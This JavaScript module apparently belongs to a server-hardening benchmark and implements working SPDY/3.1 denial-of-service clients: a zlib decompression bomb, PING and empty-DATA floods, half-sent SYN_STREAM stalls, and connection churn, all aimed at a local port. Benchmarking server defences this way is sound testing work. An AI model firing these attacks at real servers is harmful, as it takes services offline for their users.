// Raw SPDY/3.1 attack clients for bench/attacks (plain JS, no test code):
// frame builders, header blocks compressed with Node's zlib and the SPDY/3
// dictionary (the copy in the `spdy-transport` devDependency, the same
// bytes as ../shared/spec/spdy3-dictionary.hex), and a frame reader that
// records how the server ended each connection.
'use strict';
const zlib = require('node:zlib');
const { RawConn, sleep, until, tally, fmtN, flood, floodRow, stallRow, churnRow } = require('./common.js');

const DICT = require('spdy-transport/lib/spdy-transport/protocol/spdy/dictionary.js')[3];
const T = { SYN_STREAM: 1, SYN_REPLY: 2, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, HEADERS: 8, WINDOW_UPDATE: 9 };
const RST = ['0', 'PROTOCOL_ERROR', 'INVALID_STREAM', 'REFUSED_STREAM', 'UNSUPPORTED_VERSION', 'CANCEL',
  'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'STREAM_IN_USE', 'STREAM_ALREADY_CLOSED', 'INVALID_CREDENTIALS', 'FRAME_TOO_LARGE'];
const GOAWAY = ['OK', 'PROTOCOL_ERROR', 'INTERNAL_ERROR'];
const name = (list, c) => list[c] ?? `status ${c}`;

function ctrl(type, flags, payload) {
  const b = Buffer.allocUnsafe(8 + payload.length);
  b[0] = 0x80;
  b[1] = 3;
  b.writeUInt16BE(type, 2);
  b[4] = flags;
  b.writeUIntBE(payload.length, 5, 3);
  payload.copy(b, 8);
  return b;
}
function data(streamId, flags, payload = Buffer.alloc(0)) {
  const b = Buffer.allocUnsafe(8 + payload.length);
  b.writeUInt32BE(streamId & 0x7fffffff, 0);
  b[4] = flags;
  b.writeUIntBE(payload.length, 5, 3);
  payload.copy(b, 8);
  return b;
}
const u32s = (...v) => { const b = Buffer.alloc(4 * v.length); v.forEach((x, i) => b.writeUInt32BE(x >>> 0, 4 * i)); return b; };
const windowUpdate = (sid, delta) => ctrl(T.WINDOW_UPDATE, 0, u32s(sid, delta));
const ping = (id) => ctrl(T.PING, 0, u32s(id));
/** SPDY/3.1 signature: a connection-level WINDOW_UPDATE before the first SYN_STREAM. */
const HELLO = windowUpdate(0, 1 << 20);

/** SPDY/3 name/value block (uncompressed). */
function nvBlock(pairs) {
  const parts = [u32s(pairs.length)];
  for (const [k, v] of pairs) {
    const kb = Buffer.from(k);
    const vb = Buffer.isBuffer(v) ? v : Buffer.from(v);
    parts.push(u32s(kb.length), kb, u32s(vb.length), vb);
  }
  return Buffer.concat(parts);
}
/** The first header block of a connection: zlib with the SPDY/3 dictionary, sync-flushed. */
const compress = (block) => zlib.deflateSync(block, { dictionary: DICT, level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
function synStream(streamId, fin, pairs) {
  const head = Buffer.alloc(10);
  head.writeUInt32BE(streamId, 0);
  head.writeUInt32BE(0, 4);
  head[8] = 3 << 5;
  return ctrl(T.SYN_STREAM, fin ? 1 : 0, Buffer.concat([head, compress(nvBlock(pairs))]));
}
const request = (method, path, extra = []) => [[':method', method], [':path', path], [':version', 'HTTP/1.1'],
  [':host', '127.0.0.1'], [':scheme', 'http'], ...extra];

class SpdyConn extends RawConn {
  constructor(port, { read = true } = {}) {
    super(port, read);
    this.replies = 0;
    this.ends = 0; // streams the server ended (FIN on SYN_REPLY or a whole DATA frame)
    this._skipEnds = false; // the DATA frame being skipped has FIN
  }
  goawayName(c) { return name(GOAWAY, c); }
  rstName(c) { return name(RST, c); }
  _parse(d) {
    let off = 0;
    if (this._skip) {
      off = Math.min(this._skip, d.length);
      this._skip -= off;
      if (!this._skip && this._skipEnds) { this._skipEnds = false; this.ends++; }
      if (off === d.length) return;
    }
    const buf = this._buf.length ? Buffer.concat([this._buf, d.subarray(off)]) : d.subarray(off);
    let p = 0;
    while (buf.length - p >= 8) {
      const len = buf.readUIntBE(p + 5, 3);
      if (!(buf[p] & 0x80)) {
        const n = Math.min(len, buf.length - p - 8);
        const fin = buf[p + 4] & 1;
        p += 8 + n;
        this._skip = len - n;
        if (fin) {
          if (this._skip) this._skipEnds = true;
          else this.ends++;
        }
        continue;
      }
      if (buf.length - p < 8 + len) break;
      const type = buf.readUInt16BE(p + 2);
      const flags = buf[p + 4];
      const pl = buf.subarray(p + 8, p + 8 + len);
      p += 8 + len;
      if (type === T.GOAWAY && len >= 8) this.goaway ??= pl.readUInt32BE(4);
      else if (type === T.RST_STREAM && len >= 8) this._countRst(pl.readUInt32BE(4));
      else if (type === T.SYN_REPLY) {
        this.replies++;
        if (flags & 1) this.ends++; // FIN
      }
    }
    this._buf = Buffer.from(buf.subarray(p));
  }
}

let bombWire = null;
/** 16 MiB header value, compressed (about 16 KiB on the wire). */
function zlibBomb() {
  bombWire ??= Buffer.concat([HELLO, synStream(1, true, request('GET', '/', [['x-bomb', Buffer.alloc(16 << 20, 0x61)]]))]);
  return bombWire;
}

async function zlibBombAttack(port, ctx) {
  const total = ctx.q ? 8 : 16;
  const par = 4;
  const wire = zlibBomb();
  let started = 0;
  const outcomes = [];
  const worker = async () => {
    while (started < total && Date.now() < ctx.deadline - 1000) {
      started++;
      const c = new SpdyConn(port);
      await c.connected;
      c.sock.write(wire);
      await until(() => c.closed || c.goaway !== null || c.rst.size > 0 || c.replies > 0, Math.min(ctx.deadline - 1000, Date.now() + 5000));
      await sleep(200); // a GOAWAY may follow the RST_STREAM
      outcomes.push(c.replies && !c.rst.size && c.goaway === null ? 'answered 200' : c.outcome());
      c.destroy();
    }
  };
  await Promise.all(Array.from({ length: par }, worker));
  return { ended: tally(outcomes), note: `${(wire.length / 1024).toFixed(0)} KiB/conn` };
}

async function pingFlood(port, ctx) {
  const c = new SpdyConn(port, { read: false });
  await c.connected;
  c.sock.write(HELLO);
  const per = Math.floor(65536 / 12);
  const parts = [];
  for (let i = 0; i < per; i++) parts.push(ping(2 * i + 1));
  const sent = await flood(c, Buffer.concat(parts), per, ctx.q ? 3e6 : 20e6, ctx);
  await c.drainScan(2000);
  const r = { ended: `${c.outcome()} after ${fmtN(sent)} PINGs (reader paused)` };
  c.destroy();
  return r;
}

async function emptyData(port, ctx) {
  const c = new SpdyConn(port);
  await c.connected;
  c.sock.write(Buffer.concat([HELLO, synStream(1, false, request('POST', '/'))]));
  const per = 8192;
  const batch = Buffer.concat(Array(per).fill(data(1, 0)));
  return floodRow(c, batch, per, ctx.q ? 2e6 : 20e6, ctx, 'frames sent');
}

async function halfSynStream(port, ctx) {
  const n = ctx.q ? 100 : 500;
  const full = synStream(1, true, request('GET', '/', [['x-pad', 'x'.repeat(200)]]));
  const half = Buffer.concat([HELLO, full.subarray(0, Math.floor(full.length / 2))]);
  const cs = [];
  for (let i = 0; i < n; i++) cs.push(new SpdyConn(port));
  await Promise.all(cs.map((c) => c.connected));
  return stallRow(cs, half, ctx);
}

/**
 * Connection churn (common.js churnRow): each connection sends the SPDY/3.1
 * WINDOW_UPDATE and GET / in a SYN_STREAM with FIN (its header block
 * compressed as every first block of a connection, so one wire serves all);
 * 'read' reads the response to its FIN, 'unread' never reads, 'cut' sends
 * the first half of the SYN_STREAM only.
 */
function churn(port, ctx) {
  const req = synStream(1, true, request('GET', '/'));
  const whole = Buffer.concat([HELLO, req]);
  const half = Buffer.concat([HELLO, req.subarray(0, req.length >> 1)]);
  return churnRow((kind) => ({ c: new SpdyConn(port, { read: kind === 'read' }), wire: kind === 'cut' ? half : whole }), ctx);
}

module.exports = { zlibBomb: zlibBombAttack, pingFlood, emptyData, halfSynStream, churn, _wire: zlibBomb };
